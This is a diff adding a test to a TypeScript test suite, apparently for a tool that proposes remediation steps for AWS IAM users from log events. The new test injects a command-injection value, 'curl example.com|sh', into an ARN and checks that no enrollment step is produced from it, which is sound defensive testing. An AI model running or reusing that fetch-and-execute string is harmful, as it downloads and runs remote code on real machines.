@@ -594,6 +594,13 @@ describe("the way out", () => {
   const guarded = (userAgent: string, more: Partial<Setup> = {}) =>
     plan({ asked: { guard: {} }, subjects: [alice(more)], events: [event({ userAgent })] });
 
+  test("of whom a log made up is no command to paste into a shell", () => {
+    const arn = `arn:aws:iam::${ACCOUNT}:user/x;curl example.com|sh`;
+    const made = plan({ subjects: [deploy()], events: [assume({}, { arn })] });
+    expect(made.affected).toHaveLength(1);
+    expect(made.affected[0]?.waysOut.map(({ kind }) => kind)).not.toContain("enroll");
+  });
+
   test("of a person is a device", () => {
     const { affected, exemptions } = guarded("aws-cli/2 os/macos#25.0");
     expect(affected[0]?.waysOut).toEqual([
